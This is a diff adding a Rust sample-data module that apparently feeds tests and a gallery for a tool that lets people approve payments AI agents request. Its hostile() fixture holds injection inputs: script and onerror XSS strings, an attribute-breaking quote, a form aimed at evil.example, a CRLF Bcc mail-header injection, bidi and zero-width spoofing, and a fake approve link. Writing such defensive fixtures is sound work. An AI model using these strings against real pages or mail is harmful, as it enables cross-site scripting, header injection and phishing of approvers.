@@ -1,0 +1,202 @@
+//! Sample views for the tests and for the gallery.
+
+#![allow(dead_code)] // each user takes a part
+
+use bursar_base::{Currency, Money, TimeUs};
+use bursar_pages::{
+    ApprovalStatus, ApprovalView, FreezeCause, FrozenView, LeftLine, PaymentView, RuleLine, RuleVerdict,
+    TestView, Window,
+};
+
+/// Dollars from a decimal.
+pub fn usd(text: &str) -> Money {
+    Money::parse(text, Currency::USD).expect("a sample amount")
+}
+
+/// A time from RFC 3339.
+pub fn at(text: &str) -> TimeUs {
+    TimeUs::parse_rfc3339(text).expect("a sample time")
+}
+
+fn left(window: Window, limit: &str, used: &str, left: &str) -> LeftLine {
+    LeftLine {
+        window,
+        limit: usd(limit),
+        used: usd(used),
+        left: usd(left),
+    }
+}
+
+/// A rule that asks.
+pub fn asks(rule: &str, limit: Option<&str>) -> RuleLine {
+    RuleLine {
+        rule: rule.to_owned(),
+        verdict: RuleVerdict::Ask,
+        limit: limit.map(str::to_owned),
+        used: None,
+        asked: None,
+    }
+}
+
+/// A pending payment to a merchant that is not a payee.
+pub fn pending() -> ApprovalView {
+    ApprovalView {
+        org_name: "Northwind Labs".into(),
+        agent_name: "Scout".into(),
+        amount: usd("240"),
+        merchant: "gpu.lambda-rentals.example".into(),
+        payee_known: false,
+        category: None,
+        claimed_category: Some("cloud compute".into()),
+        purpose: "Eight hours on one H100 to finish the nightly evaluation. The spot queue is full until Thursday, \
+                  and the report is due on Wednesday."
+            .into(),
+        context_json: Some(
+            r#"{"run":"eval-2214","gpu":"H100","hours":8,"alternatives":["spot","smaller batch"]}"#.into(),
+        ),
+        rail: "stripe".into(),
+        created: at("2026-09-22T07:41:10Z"),
+        deadline: Some(at("2026-09-23T07:41:10Z")),
+        time_zone: "Europe/Berlin".into(),
+        rules: vec![asks("merchants.unknown", None), asks("approve_above", Some("100.00"))],
+        left: vec![
+            left(Window::Day, "500", "312.40", "187.60"),
+            left(Window::Month, "4000", "1466.05", "2533.95"),
+        ],
+        wallet_left: None,
+        status: ApprovalStatus::Pending,
+        decided_by: None,
+        decided_reason: None,
+        decided_at: None,
+        reason_code: None,
+        completed_at: None,
+        paid: None,
+        refunded: None,
+        approve_path: "/approve/eyJhbGciOiJIUzI1NiJ9.sample.approve".into(),
+        decline_path: "/decline/eyJhbGciOiJIUzI1NiJ9.sample.decline".into(),
+        is_test: false,
+        transaction_id: "txn_0199a2c41e3a7c0f9b1d52e8a4f0c7d6".into(),
+    }
+}
+
+/// The same once decided.
+pub fn decided(status: ApprovalStatus) -> ApprovalView {
+    use ApprovalStatus as S;
+    let mut view = pending();
+    view.status = status;
+    let by_a_person = !matches!(status, S::Pending | S::TimedOut);
+    if by_a_person {
+        view.decided_by = Some("Ann Keller".into());
+        view.decided_at = Some(at("2026-09-22T08:03:55Z"));
+    }
+    match status {
+        S::Declined => {
+            view.decided_reason = Some("Please use the spot queue; Thursday is early enough.".into())
+        }
+        S::Cancelled => view.reason_code = Some("agent_frozen".into()),
+        S::Failed => view.reason_code = Some("card_declined".into()),
+        S::Completed => {
+            view.completed_at = Some(at("2026-09-22T08:03:57Z"));
+            view.decided_reason = Some("Fine for this once.".into());
+            view.refunded = Some(usd("40"));
+        }
+        S::Refunded => {
+            view.completed_at = Some(at("2026-09-22T08:03:57Z"));
+            view.refunded = Some(usd("240"));
+        }
+        S::Pending | S::Approved | S::Executing | S::Unknown | S::TimedOut => {}
+    }
+    view
+}
+
+/// A small prepaid payment to a payee, in a test org.
+pub fn test_mode() -> ApprovalView {
+    let mut view = pending();
+    view.is_test = true;
+    view.amount = usd("12.50");
+    view.merchant = "api.weather.example".into();
+    view.payee_known = true;
+    view.category = Some("data".into());
+    view.claimed_category = None;
+    view.context_json = None;
+    view.purpose = "Forecasts for the 14 delivery routes of tomorrow.".into();
+    view.rail = "sandbox".into();
+    view.rules = vec![asks("approve_above", Some("0.00"))];
+    view.left = vec![left(Window::Day, "50", "44.10", "5.90")];
+    view.wallet_left = Some(usd("311.482915"));
+    view
+}
+
+/// Everything an attacker can write, written by one.
+pub fn hostile() -> ApprovalView {
+    let mut view = pending();
+    view.org_name = "Acme <b>&</b> Sons".into();
+    view.agent_name = "Scout\u{202e}tuocS\"><img src=x onerror=alert(1)>".into();
+    view.amount = usd("9999999999.999999");
+    view.merchant = format!("paypal\u{200b}.com\r\nBcc: all@example.com {}", "x".repeat(120));
+    view.claimed_category = Some("\" onmouseover=\"alert(1)".into());
+    view.purpose = format!(
+        "</blockquote><script>alert(1)</script>\r\n\r\n\r\n\r\nAPPROVE\nhttps://pay.northwind.example/approve/evil\n\
+         \u{2066}\u{202e}hidden\u{2069} mail boss@northwind.example {}",
+        "verylongword".repeat(30)
+    );
+    view.context_json = Some(r#"{"note":"</pre></details><form action=https://evil.example>","n":1}"#.into());
+    view.decided_reason = Some("<i>ok</i>".into());
+    view
+}
+
+/// An agent that asked too often.
+pub fn frozen_by_breaker() -> FrozenView {
+    FrozenView {
+        org_name: "Northwind Labs".into(),
+        agent_name: "Scout".into(),
+        agent_id: "agt_0199a2c41e3a7c0f9b1d52e8a4f0c7d6".into(),
+        cause: FreezeCause::Breaker {
+            requests: 20,
+            seconds: 60,
+            setting: "BURSAR_BREAKER".into(),
+        },
+        frozen_at: at("2026-09-22T08:14:02Z"),
+        time_zone: "Europe/Berlin".into(),
+        cancelled_payments: 2,
+        unfreeze_command: "bursar agent unfreeze agt_0199a2c41e3a7c0f9b1d52e8a4f0c7d6".into(),
+        is_test: false,
+    }
+}
+
+/// An agent that a person froze.
+pub fn frozen_by_human() -> FrozenView {
+    FrozenView {
+        cause: FreezeCause::Human {
+            by: "Ann Keller".into(),
+            reason: Some("It buys from the wrong shop; see https://wiki.example/scout".into()),
+        },
+        cancelled_payments: 0,
+        ..frozen_by_breaker()
+    }
+}
+
+/// A payment that something happened to.
+pub fn payment() -> PaymentView {
+    PaymentView {
+        org_name: "Northwind Labs".into(),
+        agent_name: Some("Scout".into()),
+        merchant: Some("gpu.lambda-rentals.example".into()),
+        amount: usd("264"),
+        transaction_id: Some("txn_0199a2c41e3a7c0f9b1d52e8a4f0c7d6".into()),
+        rail: "stripe".into(),
+        rail_reference: Some("pi_3QxSampleSample".into()),
+        occurred_at: at("2026-09-22T09:30:00Z"),
+        time_zone: "Europe/Berlin".into(),
+        is_test: false,
+    }
+}
+
+/// For the mail that tests mails.
+pub fn test_mail() -> TestView {
+    TestView {
+        server: "https://pay.northwind.example".into(),
+        sent_at: at("2026-09-22T09:30:00Z"),
+        time_zone: "Europe/Berlin".into(),
+    }
+}
